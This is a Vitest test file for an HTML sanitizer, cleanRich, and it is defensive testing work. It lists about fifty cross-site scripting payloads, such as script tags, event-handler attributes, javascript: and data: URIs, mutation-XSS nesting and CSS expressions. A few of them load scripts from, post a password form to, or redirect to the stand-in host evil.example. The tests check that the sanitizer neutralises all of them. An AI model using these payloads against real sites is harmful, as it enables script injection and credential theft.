import { expect, test } from 'vitest'
import { cleanRich } from './clean-rich.ts'

/** Whatever a browser could run, load or place by itself. */
const acts = new RegExp(
  [
    '<(?!/?(?:p|br|h2|h3|h4|strong|b|em|i|u|s|ul|ol|li|blockquote|a|hr|code)\\b)',
    '\\son\\w+\\s*=|javascript:|data:|vbscript:|url\\(|position|expression',
  ].join('|'),
  'i',
)

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<link rel=stylesheet href=//evil.example>',
  '<style>body{display:none}</style>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=password></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa&#x0A;ScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<p onmouseover=alert(1)>x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p style="background:url(//evil.example)">x</p>',
  '<p style="text-align:center;position:fixed">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<h2 id="content" class="k-shop">x</h2>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p><b><img/src/onerror=alert(1)></b></p>',
  '<xss style="behavior:url(x.htc)">',
  '<input autofocus onfocus=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '</p></main></body><script>alert(1)</script>',
  '<a href="https://ok.example" style="display:block;position:fixed">x</a>',
  '"><script>alert(1)</script>',
  '<p>x</p\u0000><script>alert(1)</script>',
])('%j does nothing', (html) => expect(cleanRich(html)).not.toMatch(acts))

test('words and their marks stay, links elsewhere open apart', () => {
  const written =
    '<h2 style="text-align:center">A</h2><p><strong>b</strong> <em>c</em> <u>d</u></p><ul><li>e</li></ul>' +
    '<p><a href="https://example.com/">f</a> <a href="page:4">g</a></p>'
  expect(cleanRich(written)).toBe(
    '<h2 style="text-align:center">A</h2><p><strong>b</strong> <em>c</em> <u>d</u></p><ul><li>e</li></ul>' +
      '<p><a href="https://example.com/" rel="noopener nofollow ugc" target="_blank">f</a> <a>g</a></p>',
  )
  expect(cleanRich('<h1>Only one per page</h1>')).toBe('<h2>Only one per page</h2>')
})
